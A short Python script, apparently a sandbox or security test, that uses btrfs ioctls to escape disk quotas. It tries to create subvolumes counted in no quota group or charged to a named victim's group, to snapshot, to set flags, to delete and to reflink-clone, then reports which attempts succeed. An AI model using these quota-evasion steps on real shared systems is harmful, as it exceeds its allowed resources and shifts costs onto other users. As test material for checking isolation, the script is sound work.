"""Ways around the disk's quota: subvolumes that count in no quota group, or in another project's.

Given, in a file beside it: ``uid`` of the victim, whose group is ``1/<uid>``.
"""

import ctypes
import errno
import fcntl
import json
import os
import struct
from pathlib import Path

given = json.loads(Path(__file__).with_name("given.json").read_text())
found: dict[str, object] = {}
home = os.open("/home/user", os.O_RDONLY)
CREATE, CREATE_V2, SNAPSHOT_V2, SET_FLAGS, DELETE = 0x5000940E, 0x50009418, 0x50009417, 0x4008941A, 0x5000940F
INHERIT = 4
FICLONE = 0x40049409


def attempt(name: str, request: int, argument: bytes, folder: int = home) -> None:
    try:
        fcntl.ioctl(folder, request, bytearray(argument))
        found[name] = "possible"
    except OSError as error:
        found[name] = errno.errorcode[error.errno or 0]


def counted_in(*groups: int) -> "tuple[int, ctypes.Array[ctypes.c_char]]":
    """Return the size of a ``struct btrfs_qgroup_inherit`` and where it is."""
    held = struct.pack(f"=QQQQ5Q{len(groups)}Q", 0, len(groups), 0, 0, 0, 0, 0, 0, 0, *groups)
    return len(held), ctypes.create_string_buffer(held)


def volume(name: bytes, *, flags: int = 0, inherit: tuple[int, int] = (0, 0), source: int = 0) -> bytes:
    return struct.pack("=qQQQQQQ4040s", source, 0, flags, *inherit, 0, 0, name)


attempt("subvolume", CREATE, struct.pack("=q4088s", 0, b"plain"))
for name, groups in {"in no group": (), "in the victim's group": ((1 << 48) | given["uid"],)}.items():
    size, where = counted_in(*groups)
    attempt(name, CREATE_V2, volume(name.encode(), flags=INHERIT, inherit=(size, ctypes.addressof(where))))
attempt("snapshot", SNAPSHOT_V2, volume(b"snapshot", source=home))
attempt("read-only", SET_FLAGS, struct.pack("=Q", 2))
attempt("delete", DELETE, struct.pack("=q4088s", 0, b"plain"))
found["subvolumes"] = [entry.name for entry in os.scandir(home) if entry.is_dir() and entry.inode() == 256]

with open("/home/user/cloned", "wb") as source:
    source.write(b"x" * 4096)
with open("/home/user/cloned", "rb") as source, open("/home/user/clone", "wb") as clone:
    fcntl.ioctl(clone, FICLONE, source.fileno())
found["clone"] = Path("/home/user/clone").read_bytes() == b"x" * 4096
print(json.dumps(found))
